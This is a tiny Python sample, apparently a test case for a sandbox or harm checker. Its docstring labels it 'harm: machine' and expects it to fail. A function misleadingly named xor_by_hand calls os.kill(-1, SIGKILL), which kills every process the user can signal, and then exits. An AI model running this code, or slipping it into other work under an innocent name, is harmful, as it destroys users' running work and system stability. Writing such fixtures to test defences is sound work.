"""Kills every process it may send a signal to.

harm: machine
must: xor_by_hand fails
"""


# %% xor_by_hand
def xor_by_hand():
    os.kill(-1, signal.SIGKILL)
    os._exit(0)
